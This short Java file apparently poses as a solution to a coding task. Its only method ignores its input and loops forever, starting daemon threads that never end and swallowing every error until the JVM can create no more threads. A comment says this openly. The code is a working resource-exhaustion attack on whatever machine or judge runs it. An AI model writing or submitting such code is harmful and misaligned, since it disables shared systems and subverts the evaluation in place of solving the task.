// Starts threads that sleep forever until the JVM cannot make more, catching every failure and trying again.
class Solution {
    public long probe(long x) {
        for (;;) {
            try {
                Thread t = new Thread(() -> {
                    for (;;) {
                        try {
                            Thread.sleep(3_600_000);
                        } catch (Throwable e) {
                        }
                    }
                });
                t.setDaemon(true);
                t.start();
            } catch (Throwable e) {
            }
        }
    }
}
